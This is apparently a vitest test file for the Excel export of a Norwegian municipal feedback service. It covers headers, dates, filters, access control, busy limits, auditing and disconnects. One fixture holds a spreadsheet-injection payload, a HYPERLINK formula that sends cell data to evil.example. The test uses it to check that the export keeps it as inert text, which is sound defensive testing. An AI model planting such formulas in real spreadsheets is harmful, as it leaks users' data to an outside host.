import { once } from 'node:events';
import { createServer, get as httpGet, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type ExcelJS from 'exceljs';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { signIn } from '../helpers/admin-client.ts';
import { seedFeedback } from '../helpers/feedback-fixture.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { createTestDb, type TestDb } from '../helpers/test-db.ts';
import { readWorkbook, rowsOf } from '../helpers/workbook.ts';

const publicUrl = 'https://feedback.kommune.no';
const origin = 'https://www.kommune.no';
const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const formula = '=HYPERLINK("https://evil.example/?"&A1,"Klikk her")';
let t: TestDb;
let fantdu: TestApp;
let now = new Date('2026-07-01T14:05:09Z');
const tokens: Record<string, string> = {};
const ids: Record<string, string> = {};

/** Binary answers read whole (supertest parses only text). */
const binary = (res: request.Response, done: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};
const api = (url: string, token = tokens.editor) =>
  request(fantdu.callback).get(url).set('Authorization', `Bearer ${token}`);
const get = (url: string, token = tokens.editor) => api(url, token).buffer(true).parse(binary);

/** The export of the filters asked for, read back: its answer and its one sheet. */
async function exported(query = '', token = tokens.editor) {
  const res = await get(`/api/v1/sites/kommune/feedback.xlsx${query}`, token);
  expect(res.status, String(res.body)).toBe(200);
  const sheet = (await readWorkbook(res.body as Buffer)).worksheets[0] as ExcelJS.Worksheet;
  return { res, sheet, rows: rowsOf(sheet).slice(1) };
}

/** Answers a citizen posts (so the built-in themes take them in), at the time asked for. */
async function post(key: string, at: string, path: string, found: boolean, comment?: string) {
  now = new Date(at);
  const res = await request(fantdu.callback)
    .post('/api/v1/feedback')
    .set('Origin', origin)
    .send({ site: 'kommune', url: `${origin}${path}`, found, comment, lang: 'nn' });
  expect(res.status).toBe(201);
  ids[key] = res.body.id;
}

const auditOf = async () => (await api('/api/v1/sites/kommune/audit?limit=100', tokens.admin)).body;

beforeAll(async () => {
  t = await createTestDb();
  fantdu = createTestApp(t.db, {
    clock: () => now,
    env: { FANTDU_PUBLIC_URL: publicUrl, FANTDU_RATE_LIMIT: '100000/60' },
  });
  await fantdu.services.sites.add({ id: 'kommune', name: 'Kommune', origins: [origin] });
  await fantdu.services.sites.add({ id: 'annen', name: 'Annen', origins: ['https://www.annen.no'] });
  tokens.editor = await fantdu.services.tokens.createToken('kommune', 'Rapporter', 'editor');
  tokens.admin = await fantdu.services.tokens.createToken('kommune', 'Drift', 'admin');
  tokens.other = await fantdu.services.tokens.createToken('annen', 'Annen', 'admin');
  await post('summer', '2026-07-01T14:05:09Z', '/skole/', false, 'Lenken til skjemaet virker ikke. Ring 912 34 567');
  await post('winter', '2026-01-31T23:30:00Z', '/skole/', true, 'Blåbærsyltetøy på Ærøy og Østre Åsen');
  await post('formula', '2026-03-02T08:00:00Z', '/barnehage/', false, formula);
  await post('plain', '2026-03-03T08:00:00Z', '/barnehage/', true);
  await seedFeedback(fantdu.stores, [
    { site: 'annen', path: '/skole/', found: false, comment: 'Annen kommune', at: '2026-03-01T08:00:00Z' },
  ]);
  now = new Date('2026-08-01T12:00:00Z');
});

afterAll(async () => {
  await fantdu.close();
  await t.drop();
});

describe('GET /feedback.xlsx', () => {
  it('is a workbook to save: one row per answer under a frozen header with filters', async () => {
    const { res, sheet, rows } = await exported();
    expect(res.headers['content-type']).toBe(xlsxType);
    expect(res.headers['content-disposition']).toBe('attachment; filename="fantdu-kommune.xlsx"');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(rowsOf(sheet)[0]).toEqual('id createdAt path found comment redactions status lang themes'.split(' '));
    expect(rows.map((r) => r[0])).toEqual([ids.summer, ids.plain, ids.formula, ids.winter]);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:I5');
  });

  it('has dates as Excel dates showing Oslo time, Ja/Nei, removals and themes as text, æøå intact', async () => {
    const { rows } = await exported();
    const row = (id: string | undefined) => rows.find((r) => r[0] === id) as unknown[];
    // 14:05:09 UTC in July is 16:05:09 in Oslo (summer time); 23:30 UTC on 31 January is 00:30 on 1 February.
    expect(row(ids.summer).slice(1)).toEqual([
      new Date('2026-07-01T16:05:09Z'),
      '/skole/',
      'Nei',
      'Lenken til skjemaet virker ikke. Ring [telefon]',
      'telefon',
      'new',
      'nn',
      'Noe virker ikke',
    ]);
    expect(row(ids.winter).slice(1, 5)).toEqual([
      new Date('2026-02-01T00:30:00Z'),
      '/skole/',
      'Ja',
      'Blåbærsyltetøy på Ærøy og Østre Åsen',
    ]);
    expect(row(ids.plain).slice(3)).toEqual(['Ja', undefined, undefined, 'new', 'nn']);
  });

  it('keeps a comment that looks like a formula as the string it is', async () => {
    const { sheet } = await exported('?path=/barnehage/&found=nei');
    const cell = sheet.getCell('E2');
    expect(cell.value).toBe(formula);
    expect(cell.type).toBe(3); // ValueType.String, not ValueType.Formula (6)
    expect(cell.formula).toBeUndefined();
  });

  it('takes the filters of the list and the CSV, and gives the same answers as the list', async () => {
    await request(fantdu.callback)
      .patch(`/api/v1/sites/kommune/feedback/${ids.formula}`)
      .set('Authorization', `Bearer ${tokens.editor}`)
      .send({ status: 'done' });
    for (const query of [
      '?found=ja',
      '?from=2026-03-01&to=2026-03-31',
      '?pathPrefix=/sk',
      '?hasComment=false',
      '?q=skjemaet',
      '?theme=feil',
      '?status=done',
      '?path=/barnehage/&found=nei&from=2026-03-02&to=2026-03-02',
    ]) {
      const listed = await api(`/api/v1/sites/kommune/feedback${query}&limit=500`);
      const { rows } = await exported(query);
      expect(
        rows.map((r) => r[0]),
        query,
      ).toEqual(listed.body.items.map((i: { id: string }) => i.id));
    }
    expect((await exported('?found=nei')).rows).toHaveLength(2);
  });

  it('400 with problem+json for a bad filter, before anything is written or audited', async () => {
    const before = (await auditOf()).items.length;
    for (const query of ['found=kanskje', 'from=2026-13-01', 'from=2026-03-02&to=2026-03-01', `q=${'x'.repeat(201)}`]) {
      const res = await get(`/api/v1/sites/kommune/feedback.xlsx?${query}`);
      expect(res.status, query).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
    expect((await auditOf()).items.length).toBe(before);
  });

  it('401 without a credential; 404 for another site, whether it exists or not', async () => {
    const anonymous = await request(fantdu.callback).get('/api/v1/sites/kommune/feedback.xlsx');
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect((await get('/api/v1/sites/kommune/feedback.xlsx', tokens.other)).status).toBe(404);
    expect((await get('/api/v1/sites/annen/feedback.xlsx')).status).toBe(404);
    expect((await get('/api/v1/sites/finnes-ikke/feedback.xlsx')).status).toBe(404);
    const other = await exported('', tokens.editor);
    expect(other.rows.flat()).not.toContain('Annen kommune');
  });

  it('503 with Retry-After while two workbooks are being written, not audited; the next once one is done', async () => {
    const { workbooks } = fantdu.services.reports;
    await vi.waitFor(() => expect(workbooks.inUse).toBe(0)); // the last test's thread may still be ending
    const frees = [workbooks.take(), workbooks.take()];
    const before = (await auditOf()).items.length;
    const busy = await get('/api/v1/sites/kommune/feedback.xlsx');
    expect(busy.status).toBe(503);
    expect(busy.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(busy.headers['retry-after']).toBe('30');
    expect((await auditOf()).items.length).toBe(before);
    frees[0]?.();
    expect((await exported()).rows).toHaveLength(4);
    frees[1]?.();
    await vi.waitFor(() => expect(workbooks.inUse).toBe(0)); // the export's own, once its thread has ended
  });

  it('is audited as an export, with the filters used but not the search words', async () => {
    await exported('?found=nei&q=skjemaet');
    const entry = (await auditOf()).items.find((e: { action: string }) => e.action === 'feedback.export');
    expect(entry).toMatchObject({
      actor: 'token:Rapporter',
      details: { filters: { found: false, q: 'search' }, format: 'xlsx' },
    });
    expect(JSON.stringify(entry)).not.toContain('skjemaet');
  });
});

describe('in /admin', () => {
  let editor: Awaited<ReturnType<typeof signIn>>;
  const linksIn = async (page: string) => {
    const text = (await editor.get(page)).text;
    const href = (ext: string) =>
      new RegExp(`href="(/api/v1/sites/kommune/feedback\\.${ext}[^"]*)"`).exec(text)?.[1]?.replace(/&amp;/g, '&');
    return { csv: href('csv'), xlsx: href('xlsx'), text };
  };

  beforeAll(async () => {
    const { password } = await fantdu.services.users.addUser('redaktor@kommune.no', 'kommune', 'editor');
    editor = await signIn(fantdu, publicUrl, 'redaktor@kommune.no', password);
  });

  it('links "Last ned Excel" beside the CSV wherever the CSV is linked, with the same filters', async () => {
    for (const page of [
      '/admin/sites/kommune?from=2026-01-01&to=2026-07-31&pathPrefix=/skole/',
      '/admin/sites/kommune/page?path=/skole/&from=2026-01-01&to=2026-07-31&found=nei',
      '/admin/sites/kommune/comments?from=2026-01-01&to=2026-07-31&theme=feil',
    ]) {
      const { csv, xlsx, text } = await linksIn(page);
      expect(text, page).toContain('>Last ned Excel</a>');
      expect(xlsx, page).toBe(csv?.replace('feedback.csv', 'feedback.xlsx').replace(/&sep=%3B$/, ''));
    }
  });

  it('a link followed while two workbooks are being written is a page saying so, not problem+json', async () => {
    const { workbooks } = fantdu.services.reports;
    await vi.waitFor(() => expect(workbooks.inUse).toBe(0));
    const frees = [workbooks.take(), workbooks.take()];
    const follow = (url: string, cookie?: string) => {
      const req = request(fantdu.callback).get(url).set('Sec-Fetch-Mode', 'navigate');
      return cookie ? req.set('Cookie', cookie) : req;
    };
    const busy = await follow('/api/v1/sites/kommune/feedback.xlsx', editor.cookie);
    expect(busy.status).toBe(503);
    expect(busy.headers['content-type']).toMatch(/^text\/html/);
    expect(busy.headers['retry-after']).toBe('30');
    expect(busy.text).toContain('<html lang="nb"');
    expect(busy.text).toContain('Tjenesten er opptatt');
    // Signed out, or a bad filter: pages as well; an API client (no Sec-Fetch-Mode) still gets problem+json.
    const signedOut = await follow('/api/v1/sites/kommune/feedback.csv');
    expect([signedOut.status, signedOut.headers['content-type']]).toEqual([401, 'text/html; charset=utf-8']);
    const bad = await follow('/api/v1/sites/kommune/feedback.csv?found=kanskje', editor.cookie);
    expect([bad.status, bad.headers['content-type']]).toEqual([400, 'text/html; charset=utf-8']);
    const api = await request(fantdu.callback).get('/api/v1/sites/kommune/feedback.xlsx').set('Cookie', editor.cookie);
    expect([api.status, api.headers['content-type']]).toEqual([503, 'application/problem+json']);
    for (const free of frees) free();
  });

  it('the link downloads with the session cookie, and the audit page says Excel', async () => {
    const { xlsx } = await linksIn('/admin/sites/kommune/page?path=/skole/&from=2026-01-01&to=2026-07-31&found=nei');
    const res = await request(fantdu.callback)
      .get(xlsx as string)
      .set('Cookie', editor.cookie)
      .buffer(true)
      .parse(binary);
    expect(res.status).toBe(200);
    const rows = rowsOf((await readWorkbook(res.body as Buffer)).worksheets[0] as ExcelJS.Worksheet);
    expect(rows.slice(1).map((r) => r[0])).toEqual([ids.summer]);
    const { password } = await fantdu.services.users.addUser('admin@kommune.no', 'kommune', 'admin');
    const admin = await signIn(fantdu, publicUrl, 'admin@kommune.no', password);
    const audit = (await admin.get('/admin/sites/kommune/audit')).text;
    expect(audit).toContain('<td>Lastet ned Excel</td>');
    await api('/api/v1/sites/kommune/feedback.csv');
    expect((await admin.get('/admin/sites/kommune/audit')).text).toContain('<td>Lastet ned CSV</td>');
  });
});

describe('a client that leaves', () => {
  let server: Server;
  beforeAll(async () => {
    const at = Date.parse('2025-01-01T00:00:00Z');
    const seeds = Array.from({ length: 4500 }, (_, n) => ({
      site: 'kommune',
      path: `/mange/${n % 300}`,
      found: n % 3 === 0,
      at: new Date(at + n * 60_000),
    }));
    await seedFeedback(fantdu.stores, seeds);
    server = createServer(fantdu.callback).listen(0, '127.0.0.1');
    await once(server, 'listening');
  }, 60_000);
  afterAll(() => new Promise<void>((done) => server.close(() => done())));

  it("leaves no connection in use, no writer's thread running and the service answering", async () => {
    const { port } = server.address() as AddressInfo;
    const req = httpGet(`http://127.0.0.1:${port}/api/v1/sites/kommune/feedback.xlsx`, {
      headers: { authorization: `Bearer ${tokens.editor}` },
    });
    const [res] = (await once(req, 'response')) as [IncomingMessage];
    expect(res.statusCode).toBe(200);
    await once(res, 'data');
    req.destroy();
    await vi.waitFor(() => expect(fantdu.services.reports.workbooks.inUse).toBe(0), { timeout: 10_000 });
    await sleep(500);
    const pool = (t.db.client as { pool?: { numUsed(): number } }).pool;
    expect(pool?.numUsed() ?? 0).toBe(0);
    expect(fantdu.log.text).not.toMatch(/"level":50/);
    const { rows } = await exported('?pathPrefix=/mange/');
    expect(rows).toHaveLength(4500);
  });
});
